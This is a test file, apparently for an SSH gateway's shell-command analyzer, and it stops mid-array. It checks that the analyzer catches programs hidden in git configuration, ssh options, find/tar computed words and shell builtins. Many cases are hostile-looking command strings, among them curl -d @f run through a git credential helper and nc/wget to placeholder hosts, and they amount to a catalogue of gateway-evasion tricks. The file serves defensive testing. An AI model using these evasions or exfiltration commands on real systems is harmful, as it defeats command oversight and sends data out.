/**
 * What each program handler in adapters/ssh/src/shell/programs.ts reads, case by case, with the
 * exact facts (programs in order, dynamic, background, reasons): the branches of git, ssh, scp,
 * rsync, at, the shells, su/runuser/sg, env, xargs, find, trap, alias, source, the read builtins,
 * completion, enable, hash, watch, flock, script and coproc. Written from the mutation report of
 * 2026-12-03 (the handlers' survivors) and checked against the programs' documented behaviour;
 * the git and ssh cases that run something were also run for real (below, and the ssh client's
 * `-G`). A change to a handler that changes what a line runs fails one of these.
 */
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { analyzeCommand, loadShellParser, type CommandFacts } from '../../../adapters/ssh/dist/shell/programs.js'

beforeAll(loadShellParser)

function facts(text: string): CommandFacts {
  const a = analyzeCommand(text)
  if (!a.ok) throw new Error(`${JSON.stringify(text)}: ${a.error}`)
  return a.facts
}

/** A command line and the facts it must have; an `argv` key, even `undefined`, is compared exactly. */
type Case = readonly [command: string, expected: Partial<CommandFacts>]

/** One test per command line. */
function eachLine(cases: readonly Case[]): void {
  it.each(cases)('%j', (command, expected) => {
    const { argv, ...rest } = expected
    const f = facts(command)
    expect(f).toMatchObject(rest)
    if ('argv' in expected) expect(f.argv).toEqual(argv)
  })
}

describe('evasions through git configuration and ssh options (found in the handler review of 2026-12-03)', () => {
  it.each([
    // git runs a credential helper through the shell whatever its form: `git credential-store; nc x get`
    ["git -c credential.helper='store; nc x' push", ['git', 'nc']],
    ["git -c credential.helper='/usr/bin/curl -d @f' push", ['git', 'curl', '/usr/bin/curl']],
    // an alias without `!` is a git command line, and `clone -u` runs its upload-pack locally
    [`git -c alias.x='clone -u "curl z" /r' x`, ['git', 'curl']],
    ["git clone -u 'curl z; git-upload-pack' /r d", ['git', 'curl', 'git-upload-pack']],
    ['git clone -qu nc /r d', ['git', 'nc']],
    // RemoteCommand is the remote command given as an option
    ["ssh -o RemoteCommand='curl x' h", ['ssh', 'curl']],
  ] as const)('%s runs %j', (command, programs) => {
    expect(facts(command)).toMatchObject({ programs, dynamic: false })
  })

  it('a computed word that tar or find would read as an option is dynamic (x=-exec; find . "$x" curl u \\;)', () => {
    expect(facts('tar -xf a "$m"')).toMatchObject({ programs: ['tar'], dynamic: true, dynamicReasons: ['tar: a computed word may be an option that runs a command'] })
    expect(facts('tar "$x" -xf a')).toMatchObject({ programs: ['tar'], dynamic: true })
    expect(facts('tar -xf "$a" --file "$b" --directory "$d" -C "$e" -- "$m"')).toMatchObject({ programs: ['tar'], dynamic: false })
    expect(facts('find . "$x" curl u \\;')).toMatchObject({ programs: ['find'], dynamic: true, dynamicReasons: ['find: a computed word may be -exec'] })
    expect(facts('find . -type f "$x" curl "$y"')).toMatchObject({ programs: ['find'], dynamic: true })
    // a path, and primaries' arguments, are not: were "$d" -exec, the program would be `-name`
    expect(facts('find "$d" -name "$p" -exec rm {} \\;')).toMatchObject({ programs: ['find', 'rm'], dynamic: false })
    expect(facts('find . -newermt "$t" -fprintf "$f" "$g" -exec ls {} +')).toMatchObject({ programs: ['find', 'ls'], dynamic: false })
    expect(facts('find "$d" -type f')).toMatchObject({ programs: ['find'], dynamic: false })
  })

  it('a computed ssh -o value may be ProxyCommand, and an unknown git -c key may run code: dynamic', () => {
    expect(facts('ssh -o "$x" h')).toMatchObject({ programs: ['ssh'], dynamic: true })
    expect(facts('scp -o "$o" a b:')).toMatchObject({ programs: ['scp'], dynamic: true })
    expect(facts('ssh -o "Port=$p" h')).toMatchObject({ programs: ['ssh'], dynamic: false })
    expect(facts("git -c protocol.ext.allow=always clone 'ext::sh -c curl% x' d")).toMatchObject({ dynamic: true, dynamicReasons: ['git -c protocol.ext.allow: git may run code this setting names'] })
  })

  describe('the same lines run by bash, git 2.39, find and tar here: the command the gateway reports is the one they run', () => {
    let dir: string
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), 'gatehouse-git-'))
      const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' }
      execFileSync('git', ['init', '-q', join(dir, 'src')], { env })
      writeFileSync(join(dir, 'src', 'f'), 'x\n')
      execFileSync('git', ['-C', join(dir, 'src'), 'add', 'f'], { env })
      execFileSync('git', ['-C', join(dir, 'src'), '-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '-m', 'x'], { env })
    })
    afterAll(() => rmSync(dir, { recursive: true, force: true }))

    it.each([
      ['a credential helper that is not a helper name', 'touch', (m: string) => `printf 'protocol=https\\nhost=h\\n\\n' | git -c credential.helper='store; touch ${m}' credential fill`],
      ['an alias for clone -u', 'touch', (m: string, d: string) => `git -c alias.x='clone -q -u "touch ${m}; git-upload-pack" ${d}/src ${d}/a' x`],
      ['clone -u', 'touch', (m: string, d: string) => `git clone -q -u 'touch ${m}; git-upload-pack' ${d}/src ${d}/b`],
      // bash (extquote) decodes $'…' inside a double-quoted ${…} but still runs a $(…) it holds
      ['$\'…\' inside "${x:-…}"', 'touch', (m: string) => `echo "\${x:-$'$(touch ${m})'}"`],
      ['git config then the alias', 'touch', (m: string, d: string) => `cd ${d}/src && git config alias.zz '!touch ${m}' && git zz`],
      ['rebase -x', 'touch', (m: string, d: string) => `git -C ${d}/src -c user.name=t -c user.email=t@t rebase -q -x 'touch ${m}' --root`],
      // find and tar read a computed word as an option: the gateway reports dynamic, real find and tar run the command
      ['find with x=-exec', 'dynamic', (m: string, d: string) => `x=-exec; find ${d}/src -maxdepth 0 "$x" touch ${m} \\;`],
      ['tar with m=--to-command=…', 'dynamic', (m: string, d: string) => `cd ${d} && tar -cf t.tar src/f && m='--to-command=touch ${m}'; tar -xf t.tar "$m"`],
    ] as const)('%s: the gateway sees %s', (_title, seen, line) => {
      const marker = join(dir, `ran-${Math.random().toString(36).slice(2)}`)
      const command = line(marker, dir)
      const f = facts(command)
      if (seen === 'touch') expect(f.programs).toContain('touch')
      else expect(f.dynamic).toBe(true)
      try {
        // cwd: the credential helper line runs `touch MARKER get` (git appends the action), so 'get' lands in cwd
        execFileSync('bash', ['-c', command], { cwd: dir, env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' }, stdio: 'ignore', timeout: 10_000 })
      } catch {
        // git may fail after running the command (no credential, no such remote): the marker says whether it ran
      }
      expect(existsSync(marker)).toBe(true)
    })
  })
})

describe('every handler branch, exact facts', () => {
  eachLine([
    ["git -c core.sshCommand='nc x' fetch", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ['git -c core.pager=curl log', {programs: ['git', 'curl'], dynamic: false, background: false}],
    ["git -c alias.x='!wget y' x", {programs: ['git', 'wget'], dynamic: false, background: false}],
    ['git -c alias.x=log x', {programs: ['git'], dynamic: false, background: false}],
    ["git -c credential.helper='!ssh z' push", {programs: ['git', 'ssh'], dynamic: false, background: false}],
    ['git -c credential.https://h.helper=scp push', {programs: ['git'], dynamic: false, background: false}],
    ['git -c user.name=curl commit', {programs: ['git'], dynamic: false, background: false}],
    ['git -c', {programs: ['git'], dynamic: false, background: false}],
    ['git -c core.sshcommand', {programs: ['git'], dynamic: false, background: false}],
    ["rsync -e 'ssh -p 2' a b:", {programs: ['rsync', 'ssh'], dynamic: false, background: false}],
    ["rsync --rsh 'nc x' a b:", {programs: ['rsync', 'nc'], dynamic: false, background: false}],
    ["rsync --rsh='curl y' a b:", {programs: ['rsync', 'curl'], dynamic: false, background: false}],
    ["rsync -avze 'wget z' a b:", {programs: ['rsync', 'wget'], dynamic: false, background: false}],
    ['rsync -essh a b:', {programs: ['rsync', 'ssh'], dynamic: false, background: false}],
    ['rsync -aB 1024e ssh a b:', {programs: ['rsync'], dynamic: false, background: false}],
    ['rsync -Te wget a b:', {programs: ['rsync'], dynamic: false, background: false}],
    ['rsync -e', {programs: ['rsync'], dynamic: false, background: false}],
    ['rsync -av --exclude=e a b:', {programs: ['rsync'], dynamic: false, background: false}],
    ['at now', {programs: ['at'], dynamic: true, background: true}],
    ['at -f /tmp/x now', {programs: ['at'], dynamic: true, background: true}],
    ['at -l', {programs: ['at'], dynamic: false, background: true}],
    ['at -q a now', {programs: ['at'], dynamic: true, background: true}],
    ['at -t 202601010000', {programs: ['at'], dynamic: true, background: true}],
    ['batch', {programs: ['batch'], dynamic: true, background: true}],
    ['echo curl | at now', {programs: ['echo', 'at'], dynamic: true, background: true}],
    ['at -c 1', {programs: ['at'], dynamic: false, background: true}],
    ['at "$x"', {programs: ['at'], dynamic: true, background: true}],
    ['scp -S nc a b:', {programs: ['scp', 'nc'], dynamic: false, background: false}],
    ["scp -o ProxyCommand='curl %h' a b:", {programs: ['scp', 'curl'], dynamic: false, background: false}],
    ['sftp -D /usr/lib/sftp-server h', {programs: ['sftp', 'sftp-server', '/usr/lib/sftp-server'], dynamic: true, background: false}],
    ['scp -o "$o" a b:', {programs: ['scp'], dynamic: true, background: false}],
    ['scp -P 22 -S wget a b:', {programs: ['scp', 'wget'], dynamic: false, background: false}],
    ['scp a b:', {programs: ['scp'], dynamic: false, background: false}],
    ['scp -i key -S ssh a b:', {programs: ['scp', 'ssh'], dynamic: false, background: false}],
    ['ssh -f h', {programs: ['ssh'], dynamic: false, background: true}],
    ["ssh -o LocalCommand='nc x' -o PermitLocalCommand=yes h", {programs: ['ssh', 'nc'], dynamic: false, background: false}],
    ["ssh -o 'KnownHostsCommand curl %H' h", {programs: ['ssh', 'curl'], dynamic: false, background: false}],
    ['ssh -o ProxyCommand=none h', {programs: ['ssh'], dynamic: false, background: false}],
    ["ssh -o ProxyCommand=' NONE ' h", {programs: ['ssh'], dynamic: false, background: false}],
    ["ssh -o SetEnv='FOO=1 BAR=2' h ls", {programs: ['ssh', 'ls'], dynamic: false, background: false, env: ['FOO', 'BAR']}],
    ["ssh -o 'setenv FOO=1' h", {programs: ['ssh'], dynamic: false, background: false, env: ['FOO']}],
    ['ssh -o "$x" h', {programs: ['ssh'], dynamic: true, background: false}],
    ['ssh -o "X$command" h', {programs: ['ssh'], dynamic: true, background: false}],
    ['ssh h', {programs: ['ssh'], dynamic: false, background: false}],
    ['ssh h "$c"', {programs: ['ssh'], dynamic: true, background: false}],
    ['ssh -p 22 h -l u curl', {programs: ['ssh', 'curl'], dynamic: false, background: false}],
    ['ssh h curl x y', {programs: ['ssh', 'curl'], dynamic: false, background: false}],
    ['ssh "$h" curl', {programs: ['ssh'], dynamic: true, background: false}],
    ['ssh -i k h -o ProxyCommand=wget curl', {programs: ['ssh', 'wget', 'curl'], dynamic: false, background: false}],
    [`git -c alias.x='clone -u "curl z" /r' x`, {programs: ['git', 'curl'], dynamic: false, background: false}],
    ["git -c credential.helper='/usr/bin/curl -d @f' push", {programs: ['git', 'curl', '/usr/bin/curl'], dynamic: false, background: false}],
    ["git -c credential.helper='store; nc x' push", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ['git -c credential.helper= push', {programs: ['git'], dynamic: false, background: false}],
    ['git -c user.name=curl -c user.email=a@b commit', {programs: ['git'], dynamic: false, background: false}],
    ['git -c core.hooksPath=/tmp/h commit', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git -c core.hookspath: git may run code this setting names']}],
    ['git -c init.templateDir=/tmp/t clone a b', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git -c init.templatedir: git may run code this setting names']}],
    ["git -c protocol.ext.allow=always clone 'ext::sh -c curl% x' d", {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git -c protocol.ext.allow: git may run code this setting names']}],
    ['git -c core.fsmonitor=true status', {programs: ['git'], dynamic: false, background: false}],
    ['git -c core.fsmonitor=/tmp/hook status', {programs: ['git', 'hook', '/tmp/hook'], dynamic: false, background: false}],
    ['git -c pager.log log', {programs: ['git'], dynamic: false, background: false}],
    ['git -C /tmp -c core.editor=vim commit', {programs: ['git', 'vim'], dynamic: true, background: false, dynamicReasons: ['vim runs code from its arguments or standard input', 'git -C']}],
    ['git --no-pager -c diff.x.textconv=curl diff', {programs: ['git', 'curl'], dynamic: false, background: false}],
    ["git -c filter.lfs.smudge='nc y' checkout", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ["git -c color.ui=never -c core.quotepath=off -c safe.directory='*' -c init.defaultBranch=main -c protocol.version=2 status", {programs: ['git'], dynamic: false, background: false}],
    ['ssh -o "Port=$p" h', {programs: ['ssh'], dynamic: false, background: false}],
    ['ssh -o "User $u" h', {programs: ['ssh'], dynamic: false, background: false}],
    ['ssh -o "ProxyCommand=$p" h', {programs: ['ssh'], dynamic: true, background: false}],
    ["ssh -o RemoteCommand='curl x' h", {programs: ['ssh', 'curl'], dynamic: false, background: false}],
    ["ssh -o 'RemoteCommand none' h", {programs: ['ssh'], dynamic: false, background: false}],
    ['scp -o "Port=$p" a b:', {programs: ['scp'], dynamic: false, background: false}],
    ["git clone -u 'curl z; git-upload-pack' /r d", {programs: ['git', 'curl', 'git-upload-pack'], dynamic: false, background: false}],
    ['git clone -qu nc /r d', {programs: ['git', 'nc'], dynamic: false, background: false}],
    ["git clone --upload-pack='wget x' /r d", {programs: ['git', 'wget'], dynamic: true, background: false, dynamicReasons: ['git --upload-pack']}],
    ['git clone --upl=scp /r d', {programs: ['git', 'scp'], dynamic: true, background: false, dynamicReasons: ['git --upl']}],
    ['git add -u', {programs: ['git'], dynamic: false, background: false}],
    ['git fetch -u', {programs: ['git'], dynamic: false, background: false}],
    ["git rebase -x 'make test' main", {programs: ['git', 'make'], dynamic: false, background: false}],
    ["git rebase --exec='curl x' main", {programs: ['git', 'curl'], dynamic: true, background: false, dynamicReasons: ['git --exec']}],
    ['git rebase --exe ssh main', {programs: ['git', 'ssh'], dynamic: true, background: false, dynamicReasons: ['git --exe']}],
    ['git bisect run curl x', {programs: ['git', 'curl'], dynamic: false, background: false}],
    ['git bisect start', {programs: ['git'], dynamic: false, background: false}],
    ["git submodule foreach 'nc y'", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ['git submodule foreach --recursive curl x', {programs: ['git', 'curl'], dynamic: false, background: false}],
    ['git submodule update', {programs: ['git'], dynamic: false, background: false}],
    ['git difftool -x wget', {programs: ['git', 'wget'], dynamic: false, background: false}],
    ["git filter-branch --tree-filter 'curl x' HEAD", {programs: ['git', 'curl'], dynamic: false, background: false}],
    ["git push --receive-pack='nc q' h", {programs: ['git', 'nc'], dynamic: true, background: false, dynamicReasons: ['git --receive-pack']}],
    ['git status -- -x', {programs: ['git'], dynamic: false, background: false}],
    ['bash -- curl', {programs: ['bash'], dynamic: true, background: false}],
    ['bash - curl', {programs: ['bash'], dynamic: true, background: false}],
    ['sh "$x" -c y', {programs: ['sh'], dynamic: true, background: false}],
    ["bash --rcfile /tmp/r -c 'curl x'", {programs: ['bash', 'curl'], dynamic: true, background: false}],
    ["bash --rcfile=/tmp/r -c 'curl x'", {programs: ['bash', 'curl'], dynamic: true, background: false}],
    ['bash --init-file /tmp/r', {programs: ['bash'], dynamic: true, background: false}],
    ["bash --norc -c 'nc x'", {programs: ['bash', 'nc'], dynamic: false, background: false}],
    ['bash --posix x.sh', {programs: ['bash'], dynamic: true, background: false}],
    ["bash +x -c 'curl y'", {programs: ['bash', 'curl'], dynamic: false, background: false}],
    ['bash -s x y', {programs: ['bash'], dynamic: true, background: false}],
    ["bash -O extglob -c 'nc z'", {programs: ['bash', 'nc'], dynamic: false, background: false}],
    ["bash -o errexit -c 'nc z'", {programs: ['bash', 'nc'], dynamic: false, background: false}],
    ['bash -c', {programs: ['bash'], dynamic: false, background: false}],
    ['echo x | xargs bash -c', {programs: ['echo', 'xargs', 'bash'], dynamic: true, background: false}],
    ['echo x | xargs bash', {programs: ['echo', 'xargs', 'bash'], dynamic: true, background: false}],
    ['bash -x', {programs: ['bash'], dynamic: true, background: false}],
    ["su -c 'curl x'", {programs: ['su', 'sh', 'curl'], dynamic: false, background: false}],
    ["su --command='nc y' root", {programs: ['su', 'sh', 'nc'], dynamic: false, background: false}],
    ["su --session-command 'wget z' root", {programs: ['su', 'sh', 'wget'], dynamic: false, background: false}],
    ["su --comm 'scp q' root", {programs: ['su', 'sh', 'scp'], dynamic: false, background: false}],
    ['su - root', {programs: ['su', 'sh'], dynamic: true, background: false}],
    ['su "$u" -c x', {programs: ['su'], dynamic: true, background: false}],
    ['su -cx root', {programs: ['su', 'sh', 'x'], dynamic: false, background: false}],
    ["su -g adm -c 'curl q' root", {programs: ['su', 'sh', 'curl'], dynamic: false, background: false}],
    ['su --zz root', {programs: ['su', 'sh'], dynamic: true, background: false, dynamicReasons: ['unknown option --zz']}],
    ['su --pr root', {programs: ['su', 'sh'], dynamic: true, background: false}],
    ['runuser "$u" -c x', {programs: ['runuser'], dynamic: true, background: false}],
    ['runuser -u nobody', {programs: ['runuser'], dynamic: false, background: false}],
    ["runuser nobody -c 'curl x'", {programs: ['runuser', 'sh', 'curl'], dynamic: false, background: false}],
    ["su root -c 'nc x' arg0 arg1", {programs: ['su', 'sh', 'nc'], dynamic: false, background: false}],
    ['env A=1', {programs: ['env'], dynamic: false, background: false, env: ['A']}],
    ['env A=1 "$p"', {programs: ['env'], dynamic: true, background: false, env: ['A']}],
    ['env -S "$s" x', {programs: ['env'], dynamic: true, background: false}],
    ['env -u X', {programs: ['env'], dynamic: false, background: false}],
    ['env -i -- curl', {programs: ['env', 'curl'], dynamic: false, background: false}],
    ['echo x | xargs env', {programs: ['echo', 'xargs', 'env'], dynamic: true, background: false}],
    ['echo x | xargs env A=1', {programs: ['echo', 'xargs', 'env'], dynamic: true, background: false, env: ['A']}],
    ["xargs -i sh -c '{}'", {programs: ['xargs', 'sh'], dynamic: true, background: false}],
    ["xargs -iXX sh -c 'XX'", {programs: ['xargs', 'sh'], dynamic: true, background: false}],
    ['xargs -I% curl %', {programs: ['xargs', 'curl'], dynamic: false, background: false}],
    ['xargs --replace=@ curl @', {programs: ['xargs', 'curl'], dynamic: false, background: false}],
    ['xargs -0 curl {}', {programs: ['xargs', 'curl'], dynamic: false, background: false}],
    ['xargs', {programs: ['xargs', 'echo'], dynamic: false, background: false}],
    ['xargs -n1 -P4 -i curl pre{}', {programs: ['xargs', 'curl'], dynamic: false, background: false}],
    ['find . -exec curl {} \\;', {programs: ['find', 'curl'], dynamic: false, background: false}],
    ['find . -exec curl', {programs: ['find', 'curl'], dynamic: false, background: false}],
    ['find . -exec \\;', {programs: ['find'], dynamic: false, background: false}],
    ['find . -ok curl {} \\; -okdir rm {} \\;', {programs: ['find', 'curl', 'rm'], dynamic: false, background: false}],
    ['find . -exec curl {} + -exec rm {} \\;', {programs: ['find', 'curl', 'rm'], dynamic: false, background: false}],
    ['find . -name -exec', {programs: ['find'], dynamic: false, background: false}],
    [`find . -exec sh -c 'x {}' \\;`, {programs: ['find', 'sh'], dynamic: true, background: false}],
    ['eval', {programs: ['eval'], dynamic: false, background: false}],
    ['eval "$x" y', {programs: ['eval'], dynamic: true, background: false}],
    ['eval a "$x"', {programs: ['eval'], dynamic: true, background: false}],
    ['trap', {programs: ['trap'], dynamic: false, background: false}],
    ['trap -l', {programs: ['trap'], dynamic: false, background: false}],
    ['trap -p', {programs: ['trap'], dynamic: false, background: false}],
    ["trap -- 'curl x' EXIT", {programs: ['trap', 'curl'], dynamic: false, background: false}],
    ['trap - EXIT', {programs: ['trap'], dynamic: false, background: false}],
    ["trap '' INT", {programs: ['trap'], dynamic: false, background: false}],
    ['trap curl', {programs: ['trap'], dynamic: false, background: false}],
    ["trap 'nc y' INT TERM", {programs: ['trap', 'nc'], dynamic: false, background: false}],
    ['trap INT', {programs: ['trap'], dynamic: false, background: false}],
    ['trap SIGINT', {programs: ['trap'], dynamic: false, background: false}],
    ["trap -lp 'nc z' EXIT", {programs: ['trap', 'nc'], dynamic: false, background: false}],
    ['trap "$x" EXIT', {programs: ['trap'], dynamic: true, background: false}],
    ['trap "$x"', {programs: ['trap'], dynamic: true, background: false}],
    ['alias a="$x"', {programs: ['alias'], dynamic: true, background: false}],
    ['alias a', {programs: ['alias'], dynamic: false, background: false}],
    ['alias =curl', {programs: ['alias'], dynamic: false, background: false}],
    ["alias a='nc x' b='curl y'", {programs: ['alias', 'nc', 'curl'], dynamic: false, background: false}],
    ['source -- /tmp/f', {programs: ['source'], dynamic: true, background: false}],
    ['source', {programs: ['source'], dynamic: false, background: false}],
    ['. /dev/stdin', {programs: ['.'], dynamic: true, background: false}],
    ['printf -v x %s 1', {programs: ['printf'], dynamic: false, background: false}],
    ['printf "$f" x', {programs: ['printf'], dynamic: false, background: false}],
    ['printf -vx %s', {programs: ['printf'], dynamic: false, background: false}],
    ['printf %s -v', {programs: ['printf'], dynamic: false, background: false}],
    ['read -a arr x y', {programs: ['read'], dynamic: false, background: false}],
    ['read "$o" x', {programs: ['read'], dynamic: true, background: false}],
    ['read -r x', {programs: ['read'], dynamic: false, background: false}],
    ["mapfile -C 'curl x' -c 1 arr", {programs: ['mapfile', 'curl'], dynamic: false, background: false}],
    ['mapfile "$o" arr', {programs: ['mapfile'], dynamic: true, background: false}],
    ['mapfile -t lines', {programs: ['mapfile'], dynamic: false, background: false}],
    ["compgen -C 'curl x' w", {programs: ['compgen', 'curl'], dynamic: false, background: false}],
    ['compgen -F f w', {programs: ['compgen', 'f'], dynamic: false, background: false}],
    ["compgen -V out -W 'a b' w", {programs: ['compgen'], dynamic: false, background: false}],
    ["compgen -W '$(nc y)' w", {programs: ['compgen', 'nc'], dynamic: false, background: false}],
    ['compgen -W "$w" w', {programs: ['compgen'], dynamic: true, background: false}],
    ["compgen -W '<(nc y)' w", {programs: ['compgen'], dynamic: true, background: false}],
    ['compgen "$o"', {programs: ['compgen'], dynamic: true, background: false}],
    ['complete -o default -F _f cmd', {programs: ['complete', '_f'], dynamic: false, background: false}],
    ['enable -f /tmp/x.so y', {programs: ['enable'], dynamic: true, background: false}],
    ['enable -n echo', {programs: ['enable'], dynamic: false, background: false}],
    ['enable "$x"', {programs: ['enable'], dynamic: true, background: false}],
    ['hash -p /usr/bin/nc cat', {programs: ['hash', 'nc', '/usr/bin/nc'], dynamic: false, background: false}],
    ['hash -r', {programs: ['hash'], dynamic: false, background: false}],
    ['hash "$o"', {programs: ['hash'], dynamic: true, background: false}],
    ['hash -p', {programs: ['hash'], dynamic: false, background: false}],
    ['watch -x curl x', {programs: ['watch', 'curl'], dynamic: false, background: false}],
    ['watch --exec nc y', {programs: ['watch', 'nc'], dynamic: false, background: false}],
    ['watch -n 1 curl z', {programs: ['watch', 'sh', 'curl'], dynamic: false, background: false}],
    ['watch curl "$x"', {programs: ['watch'], dynamic: true, background: false}],
    ['watch', {programs: ['watch'], dynamic: false, background: false}],
    ['watch -- curl q', {programs: ['watch', 'sh', 'curl'], dynamic: false, background: false}],
    ['flock /tmp/l', {programs: ['flock'], dynamic: false, background: false}],
    ["flock /tmp/l --command 'curl x'", {programs: ['flock', 'sh', 'curl'], dynamic: false, background: false}],
    ['flock /tmp/l -c', {programs: ['flock'], dynamic: false, background: false}],
    ['flock /tmp/l "$c" x', {programs: ['flock'], dynamic: true, background: false}],
    ['flock -w 5 /tmp/l nc y', {programs: ['flock', 'nc'], dynamic: false, background: false}],
    ['script', {programs: ['script', 'sh'], dynamic: true, background: false}],
    ["script -c 'curl x'", {programs: ['script', 'sh', 'curl'], dynamic: false, background: false}],
    ["script --command 'nc y' /dev/null", {programs: ['script', 'sh', 'nc'], dynamic: false, background: false}],
    ['script -q /dev/null', {programs: ['script', 'sh'], dynamic: true, background: false}],
    ['sg adm', {programs: ['sg', 'sh'], dynamic: true, background: false}],
    ["sg - adm -c 'curl x'", {programs: ['sg', 'sh', 'curl'], dynamic: false, background: false}],
    ['sg adm curl x', {programs: ['sg', 'sh', 'curl'], dynamic: false, background: false}],
    ['sg adm "$c"', {programs: ['sg', 'sh'], dynamic: true, background: false}],
    ["sg adm -c 'nc y' z", {programs: ['sg', 'sh', 'nc'], dynamic: false, background: false}],
    ['runuser -u nobody -- curl x', {programs: ['runuser', 'curl'], dynamic: false, background: false}],
    ['coproc curl x', {programs: ['coproc', 'curl'], dynamic: false, background: true}],
    ['coproc NAME { nc y; }', {programs: ['coproc', 'nc'], dynamic: false, background: true}],
    ['coproc { wget q; }', {programs: ['coproc', 'wget'], dynamic: false, background: true}],
    ['coproc', {programs: ['coproc'], dynamic: false, background: true}],
    ['coproc (curl y)', {programs: ['coproc', 'curl'], dynamic: false, background: true}],
    ['at -r 1', {programs: ['at'], dynamic: false, background: true}],
    ['at -d 1', {programs: ['at'], dynamic: false, background: true}],
    // git subcommands: only bisect run and submodule foreach run their words; options read up to --; an option without its value
    ['git log run curl', {programs: ['git'], dynamic: false, background: false}],
    ['git bisect run', {programs: ['git'], dynamic: false, background: false}],
    ['git bisect start curl', {programs: ['git'], dynamic: false, background: false}],
    ["git status foreach 'nc y'", {programs: ['git'], dynamic: false, background: false}],
    ['git submodule update --init', {programs: ['git'], dynamic: false, background: false}],
    ['git submodule foreach -q curl x', {programs: ['git', 'curl'], dynamic: false, background: false}],
    ["git submodule foreach --quiet --recursive 'nc y'", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ['git submodule foreach', {programs: ['git'], dynamic: false, background: false}],
    ['git submodule foreach --recursive "$c"', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git is given an argument computed at run time']}],
    ['git clone -- -ux d', {programs: ['git'], dynamic: false, background: false}],
    ['git rebase --exec curl main', {programs: ['git', 'curl'], dynamic: true, background: false, dynamicReasons: ['git --exec']}],
    ['git rebase -xcurl main', {programs: ['git', 'curl'], dynamic: false, background: false}],
    ["git rebase -ix 'nc y' main", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ['git rebase -i main', {programs: ['git'], dynamic: false, background: false}],
    ['git rebase -x', {programs: ['git'], dynamic: false, background: false}],
    ['git clone --=curl r d', {programs: ['git'], dynamic: false, background: false}],
    ['git -c "$k" status', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git is given an argument computed at run time']}],
    ['git -c alias.x status', {programs: ['git'], dynamic: false, background: false}],
    ['git -c credential.helpers=x push', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git -c credential.helpers: git may run code this setting names']}],
    ['git -c mycredential.helper=curl push', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git -c mycredential.helper: git may run code this setting names']}],
    ['git -c credential.helper push', {programs: ['git'], dynamic: false, background: false}],
    ['git push -x y', {programs: ['git'], dynamic: false, background: false}],
    // git config writes a value the next git command runs (`git config alias.x '!curl'; git x` ran curl): judged as git -c is
    ["git config alias.zz '!curl x'; git zz", {programs: ['git', 'curl'], dynamic: false, background: false}],
    ["git config --global core.pager 'nc y'", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ["git config set --local core.sshCommand 'wget q'", {programs: ['git', 'wget'], dynamic: false, background: false}],
    ['git config user.name curl', {programs: ['git'], dynamic: false, background: false}],
    ['git config core.hooksPath /tmp/h', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git config core.hookspath: git may run code this setting names']}],
    ['git config --get core.pager', {programs: ['git'], dynamic: false, background: false}],
    ['git config --list', {programs: ['git'], dynamic: false, background: false}],
    ['git config -l', {programs: ['git'], dynamic: false, background: false}],
    ['git config --unset core.pager', {programs: ['git'], dynamic: false, background: false}],
    ['git config core.pager', {programs: ['git'], dynamic: false, background: false}],
    ["git config --file /tmp/c alias.x '!ssh z'", {programs: ['git', 'ssh'], dynamic: false, background: false}],
    ['git config core.pager "$p"', {programs: ['git'], dynamic: true, background: false, dynamicReasons: ['git is given an argument computed at run time']}],
    ["git config credential.helper 'store; nc x'", {programs: ['git', 'nc'], dynamic: false, background: false}],
    ["git config --add -- alias.y '!scp a'", {programs: ['git', 'scp'], dynamic: false, background: false}],
    // ip netns exec / vrf exec run a program; ip matches any prefix (`ip net e`); -batch reads commands from a file
    ['ip netns exec ns curl x', {programs: ['ip'], dynamic: true, background: false, dynamicReasons: ['ip netns exec and ip vrf exec run a program']}],
    ['ip net e ns curl', {programs: ['ip'], dynamic: true, background: false, dynamicReasons: ['ip netns exec and ip vrf exec run a program']}],
    ['ip vrf exec blue nc y', {programs: ['ip'], dynamic: true, background: false, dynamicReasons: ['ip netns exec and ip vrf exec run a program']}],
    ['ip addr show', {programs: ['ip'], dynamic: false, background: false}],
    ['ip -all netns exec curl', {programs: ['ip'], dynamic: true, background: false, dynamicReasons: ['ip netns exec and ip vrf exec run a program']}],
    ['ip route add default via 10.0.0.1', {programs: ['ip'], dynamic: false, background: false}],
    ['ip link set eth0 up', {programs: ['ip'], dynamic: false, background: false}],
    ['ip "$o" exec', {programs: ['ip'], dynamic: true, background: false, dynamicReasons: ['ip netns exec and ip vrf exec run a program']}],
    ['ip -n ns addr', {programs: ['ip'], dynamic: false, background: false}],
    ['ip -b cmds.txt', {programs: ['ip'], dynamic: true, background: false, dynamicReasons: ['ip -batch reads commands from a file']}],
    ['ip -batch -', {programs: ['ip'], dynamic: true, background: false, dynamicReasons: ['ip -batch reads commands from a file']}],
    ['ip -br addr', {programs: ['ip'], dynamic: false, background: false}],
    // find: primaries' values (-newerXY, both -fprintf words), a computed word at the end or with no terminator after it, `+`; -exec sh -c with and without appended names; tar without arguments, the traditional I bundle, --file=, a letter bundle without a dash; submodule foreach without a script
    ['find . -newermt "$t" x \\;', {programs: ['find'], dynamic: false, background: false}],
    ['find . -fprintf f "$g" x \\;', {programs: ['find'], dynamic: false, background: false}],
    ['find . "$x"', {programs: ['find'], dynamic: false, background: false}],
    ['find "$d" x', {programs: ['find'], dynamic: false, background: false}],
